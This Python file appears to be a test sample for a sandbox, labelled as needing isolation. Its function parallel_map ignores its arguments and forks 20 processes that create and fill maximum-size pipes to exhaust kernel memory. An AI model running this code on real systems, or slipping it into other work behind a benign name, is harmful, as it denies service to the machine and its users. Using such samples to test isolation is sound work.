"""Makes pipes in many processes, each as large as allowed, and fills every one: memory that belongs to the kernel.

verdict: memory
needs: isolation
"""

import contextlib
import fcntl
import os
import signal


def fill():
    while True:
        _, writing = os.pipe()
        with contextlib.suppress(OSError):
            fcntl.fcntl(writing, fcntl.F_SETPIPE_SZ, 1 << 20)
        os.set_blocking(writing, False)
        with contextlib.suppress(BlockingIOError):
            while True:
                os.write(writing, bytes(1 << 16))


def parallel_map(function, items, workers):
    for _ in range(20):
        if os.fork() == 0:
            with contextlib.suppress(OSError):
                fill()
            signal.pause()
    signal.pause()
